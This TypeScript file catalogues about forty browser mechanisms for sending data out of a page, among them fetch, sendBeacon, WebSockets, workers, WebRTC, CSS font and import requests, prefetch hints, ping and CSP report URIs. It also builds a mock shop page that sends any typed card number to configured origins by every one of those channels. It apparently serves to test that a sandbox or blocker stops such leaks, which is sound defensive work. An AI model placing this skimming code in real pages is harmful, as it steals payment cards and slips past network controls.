/**
 * Ways by which a page can make a browser send something. Each is JavaScript over `to(name)`, which
 * gives an address that names the channel and carries the card, and `card`.
 */
export const BROWSER_CHANNELS: Readonly<Record<string, string>> = {
  'fetch with a body': `fetch(to('fetch-post'), { method: 'POST', mode: 'no-cors', body: card })`,
  'fetch that outlives the page': `fetch(to('keepalive'), { method: 'POST', mode: 'no-cors', keepalive: true, body: card })`,
  'fetch of an address': `fetch(to('fetch-get'), { mode: 'no-cors' })`,
  'fetch with a header of its own': `fetch(to('fetch-header', false), { headers: { 'x-data': card } })`,
  XMLHttpRequest: `{ const x = new XMLHttpRequest(); x.open('POST', to('xhr')); x.send(card) }`,
  sendBeacon: `navigator.sendBeacon(to('beacon'), card)`,
  EventSource: `new EventSource(to('eventsource'))`,
  WebSocket: `{ const s = new WebSocket(to('websocket').replace('http', 'ws')); s.onopen = () => s.send(card) }`,
  'WebSocket in a worker': `work('const s = new WebSocket(to("worker-websocket").replace("http", "ws")); s.onopen = () => s.send(card)')`,
  'fetch in a worker': `work('fetch(to("worker-fetch"), { method: "POST", mode: "no-cors", body: card })')`,
  'importScripts in a worker': `work('importScripts(to("worker-import"))')`,
  'fetch in a shared worker': `try { new SharedWorker('data:text/javascript,' + encodeURIComponent(prelude + 'fetch(to("shared-worker"), { method: "POST", mode: "no-cors", body: card })')) } catch {}`,
  'a service worker': `navigator.serviceWorker?.register('/sw.js?' + card).catch(() => {})`,
  picture: `new Image().src = to('image')`,
  'picture of a style': `style('body { background: url("' + to('background') + '") }')`,
  'style sheet': `style('@import url("' + to('import') + '")')`,
  font: `style('@font-face { font-family: leak; src: url("' + to('font') + '") } * { font-family: leak }')`,
  'linked style sheet': `element('link', { rel: 'stylesheet', href: to('stylesheet') })`,
  script: `element('script', { src: to('script') })`,
  frame: `element('iframe', { src: to('iframe') })`,
  object: `element('object', { data: to('object') })`,
  video: `element('video', { src: to('video'), poster: to('poster'), preload: 'auto' })`,
  prefetch: `element('link', { rel: 'prefetch', href: to('prefetch') })`,
  preload: `element('link', { rel: 'preload', as: 'image', href: to('preload') })`,
  modulepreload: `element('link', { rel: 'modulepreload', href: to('modulepreload') })`,
  preconnect: `element('link', { rel: 'preconnect', href: to('preconnect') })`,
  'dns-prefetch': `element('link', { rel: 'dns-prefetch', href: to('dns-prefetch') })`,
  manifest: `element('link', { rel: 'manifest', href: to('manifest') })`,
  'speculation rules': `{ const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [to('speculation')], requires: [] }], prerender: [{ source: 'list', urls: [to('prerender')] }] }); document.head.append(s) }`,
  WebRTC: `{ const p = new RTCPeerConnection({ iceServers: [{ urls: stun }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)) }`,
  WebTransport: `try { new WebTransport(to('webtransport').replace('http:', 'https:')) } catch {}`,
  'form in a frame': `{ const f = document.createElement('iframe'); f.name = 'sink'; document.body.append(f); const form = element('form', { method: 'post', action: to('form'), target: 'sink' }); form.innerHTML = '<input name=c>'; form.c.value = card; form.submit() }`,
  'new window': `window.open(to('window'))`,
  ping: `{ const a = element('a', { href: '#', ping: to('ping') }); a.click() }`,
  'refresh of a frame': `{ const f = document.createElement('iframe'); f.srcdoc = '<meta http-equiv=refresh content="0;url=' + to('refresh') + '">'; document.body.append(f) }`,
  'report of a policy': `{ const f = document.createElement('iframe'); f.srcdoc = '<meta http-equiv=content-security-policy content="img-src \\'none\\'; report-uri ' + to('report') + '"><img src="/x.gif">'; document.body.append(f) }`,
  'SVG use': `document.body.insertAdjacentHTML('beforeend', '<svg><image href="' + to('svg') + '"/></svg>')`,
  navigation: `setTimeout(() => { location.href = to('navigation') }, 1500)`,
}

/**
 * A shop of one page. As soon as a card number stands in its field it is sent by every channel, to
 * every origin.
 *
 * @param stunPort port of a STUN server on loopback
 */
export function leakyPage(origins: readonly string[], stunPort: number): string {
  const channels = Object.values(BROWSER_CHANNELS)
    .map((code) => `try { ${code} } catch {}`)
    .join('\n')
  const script = `
    const card = number
    const stun = 'stun:127.0.0.1:${stunPort}'
    const element = (tag, attributes) => { const e = document.createElement(tag); for (const [n, v] of Object.entries(attributes)) e.setAttribute(n, v); document.body.append(e); return e }
    const style = (text) => { const s = document.createElement('style'); s.textContent = text; document.head.append(s) }
    const to = (name, withCard = true) => origin + '/leak/' + name + (withCard ? '?c=' + card : '')
    const prelude = 'const card = ' + JSON.stringify(card) + ', origin = ' + JSON.stringify(origin) + ', to = ' + to.toString() + ';'
    const work = (code) => new Worker(URL.createObjectURL(new Blob([prelude + code])))
    ${channels}`
  return `<!doctype html><body><form id="f" action="/pay" method="post">
    <input id="n" name="cardnumber" autocomplete="cc-number"><button>Pay now</button></form><script>
    let isDone = false
    document.getElementById('n').addEventListener('input', (event) => {
      const number = event.target.value
      if (isDone || number.length < 16) return
      isDone = true
      for (const origin of ${JSON.stringify(origins)}) new Function('number', 'origin', ${JSON.stringify(script).replaceAll('</', '<\\/')})(number, origin)
    })
    document.getElementById('f').onsubmit = () => false</script></body>`
}
